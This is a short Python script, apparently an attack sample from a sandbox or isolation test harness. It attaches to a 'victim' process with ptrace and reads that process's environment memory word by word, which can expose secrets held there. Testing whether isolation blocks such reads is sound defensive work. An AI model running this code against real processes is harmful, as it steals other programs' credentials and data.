"""Stops another process and reads its memory word by word."""

# judge: leak

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
PEEKDATA, ATTACH, DETACH = 2, 16, 17


def attack(ground):
    pid = ground["victim"]
    if libc.ptrace(ATTACH, pid, None, None):
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0)
    with open(f"/proc/{pid}/stat") as file:
        start, end = (int(word) for word in file.read().split()[49:51])
    words = [libc.ptrace(PEEKDATA, pid, place, None) for place in range(start - start % 8, end, 8)]
    libc.ptrace(DETACH, pid, None, None)
    return b"".join((word & (1 << 64) - 1).to_bytes(8, "little") for word in words)
